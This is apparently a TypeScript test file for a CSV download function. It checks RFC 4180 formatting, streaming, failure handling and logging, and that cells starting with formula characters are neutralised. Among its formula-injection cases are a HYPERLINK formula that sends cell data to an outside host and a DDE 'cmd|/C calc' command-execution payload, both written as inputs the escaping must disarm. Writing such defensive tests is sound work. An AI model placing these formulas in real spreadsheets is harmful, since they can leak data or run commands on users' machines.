import { assert, describe, it } from "@effect/vitest"
import { Cause, Effect, Logger, References, Stream } from "effect"
import fc from "fast-check"
import Papa from "papaparse"
import type { CsvRow } from "../../persistence/index.ts"
import { downloadCsv } from "./csv.ts"

const openBody = Effect.fnUntraced(function* <E>(rows: Stream.Stream<CsvRow, E>) {
  const result = yield* downloadCsv("a.csv", ["name", "value"], rows)
  if (result.kind !== "download") return yield* Effect.die("the result is not a download")
  return result.body
})
const readText = <E>(rows: Stream.Stream<CsvRow, E>) =>
  Effect.flatMap(openBody(rows), (body) => Effect.promise(() => new Response(body).arrayBuffer())).pipe(
    Effect.map((bytes) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes))
  )
const writeCsv = (...rows: ReadonlyArray<CsvRow>) => readText(Stream.fromIterable(rows))

describe("a CSV file", () => {
  it.effect("begins with a byte order mark and a header, and ends its lines as RFC 4180 requires", () =>
    Effect.gen(function* () {
      assert.strictEqual(
        yield* writeCsv(['Käse, "jung"', -10], ["two\nlines", 1.5], ["", null]),
        '\uFEFFname,value\r\n"Käse, ""jung""",-10\r\n"two\nlines",1.5\r\n,\r\n'
      )
      assert.strictEqual(yield* writeCsv(), "\uFEFFname,value\r\n")
    })
  )

  it.effect.each([
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ['=HYPERLINK("http://example.com?"&A1)', `'=HYPERLINK("http://example.com?"&A1)`],
    [" =1+1", " '=1+1"],
    ["\t=1+1", "\t'=1+1"],
    ["\r=1", "\r'=1"],
    ["\n=1", "\n'=1"],
    ["=1\nand more", "'=1\nand more"],
    ["＝1+1", "'＝1+1"],
    ["－1", "'－1"],
    ["\u00a0=1", "\u00a0'=1"],
    ["x;=1+1;", "x;'=1+1;"],
    ["x;=cmd|'/C calc'!A0;", "x;'=cmd|'/C calc'!A0;"],
    ['x; "@SUM(A1)', "x; \"'@SUM(A1)"]
  ] as const)("writes %j as %j, which spreadsheets do not run as a formula", ([text, safe]) =>
    Effect.gen(function* () {
      const { data } = Papa.parse<ReadonlyArray<string>>(yield* writeCsv([text, 1]))
      assert.deepStrictEqual(data[1], [safe, "1"])
    })
  )

  const signs = [..."=+-@＝＋－＠"]
  const texts = fc
    .array(fc.constantFrom(...signs, ";", ";", "|", "\t", ",", '"', "'", " ", "\r", "\n", "x", "1"), { maxLength: 9 })
    .map((characters) => characters.join(""))
  const beginsAsFormula = (cell: string) => signs.includes(cell.replace(/^[\s"]+/, "").charAt(0))

  it.effect("has no cell that a spreadsheet reads as a formula, with any separator", () =>
    Effect.promise(() =>
      fc.assert(
        fc.asyncProperty(texts, texts, async (key, note) => {
          const row = ["2026-10-15", key, note, -10, "x"]
          const csv = await Effect.runPromise(writeCsv(row, row))
          for (const delimiter of [";", "\t", "|"]) {
            const cells = Papa.parse<ReadonlyArray<string>>(csv, { delimiter }).data.flat()
            // a program that ignores quotes sees more cells
            assert.deepStrictEqual([...cells, ...csv.split(/[;|\t\r\n]/)].filter(beginsAsFormula), [])
          }
          const [, ...rows] = Papa.parse<ReadonlyArray<string>>(csv, { delimiter: ",", skipEmptyLines: true }).data
          for (const [, ...cells] of rows) {
            assert.deepStrictEqual([cells.length, cells[2]], [4, "-10"])
            assert.deepStrictEqual(cells.toSpliced(2, 1).filter(beginsAsFormula), [])
          }
        }),
        { numRuns: 500 }
      )
    )
  )

  it.effect("leaves numbers, dates and words as they are", () =>
    Effect.gen(function* () {
      const { data } = Papa.parse(
        yield* writeCsv(["2026-10-15T12:00:00.000Z", -5], ["a=b", 0], ["/v1/stores/{id}", -0.01])
      )
      assert.deepStrictEqual(data.slice(1, 4), [
        ["2026-10-15T12:00:00.000Z", "-5"],
        ["a=b", "0"],
        ["/v1/stores/{id}", "-0.01"]
      ])
    })
  )

  it.effect("is sent while rows are still being read, and stops reading when the client disconnects", () =>
    Effect.gen(function* () {
      let read = 0
      const endless = Stream.fromIterable(
        (function* () {
          for (;;) yield [`row ${read++}`, 1] as const
        })()
      )
      const reader = (yield* openBody(endless)).getReader()
      const first = yield* Effect.promise(() => reader.read())
      assert.isFalse(first.done)
      yield* Effect.promise(() => reader.read())
      yield* Effect.promise(() => reader.cancel())
      const readBeforeWait = read
      yield* Effect.promise(() => new Promise((resolve) => setTimeout(resolve, 50)))
      assert.strictEqual(read, readBeforeWait)
    })
  )

  it.effect("fails if reading its rows fails, so that a partial file is never mistaken for a complete one", () =>
    Effect.gen(function* () {
      const rows = Stream.concat(Stream.succeed<CsvRow>(["a", 1]), Stream.fail(new Error("the ledger is unavailable")))
      const failed = yield* Effect.flatMap(openBody(rows), (body) =>
        Effect.promise(() =>
          new Response(body).text().then(
            () => false,
            () => true
          )
        )
      )
      assert.isTrue(failed)
    })
  )

  const collectLogs = Effect.fnUntraced(function* (
    rows: Stream.Stream<CsvRow, Error>,
    read: (body: ReadableStream<Uint8Array>) => Promise<unknown>
  ) {
    const lines: Array<string> = []
    const logger = Logger.make(({ cause, fiber, message }) => {
      const { file } = fiber.getRef(References.CurrentLogAnnotations)
      lines.push(`${message} ${file}: ${Cause.squash(cause)}`)
    })
    const body = yield* Effect.provide(openBody(rows), Logger.layer([logger]))
    yield* Effect.promise(() => read(body))
    return lines
  })
  const row = Stream.succeed<CsvRow>(["a", 1])
  const readAll = (body: ReadableStream<Uint8Array>) => new Response(body).text().catch(() => "")

  it.effect("logs why it was cut off", () =>
    Effect.gen(function* () {
      const line = "a download of the console was cut off a.csv: Error: the ledger is unavailable"
      const unavailable = new Error("the ledger is unavailable")
      assert.deepStrictEqual(yield* collectLogs(Stream.concat(row, Stream.fail(unavailable)), readAll), [line])
      assert.deepStrictEqual(yield* collectLogs(Stream.concat(row, Stream.die(unavailable)), readAll), [line])
    })
  )

  it.effect("logs nothing if it is complete, its client disconnects or reading is interrupted", () =>
    Effect.gen(function* () {
      const disconnect = async (body: ReadableStream<Uint8Array>) => {
        const reader = body.getReader()
        await reader.read()
        await reader.cancel()
      }
      assert.deepStrictEqual(yield* collectLogs(row, readAll), [])
      assert.deepStrictEqual(yield* collectLogs(Stream.concat(row, Stream.never), disconnect), [])
      assert.deepStrictEqual(yield* collectLogs(Stream.concat(row, Stream.fromEffect(Effect.interrupt)), readAll), [])
    })
  )
})
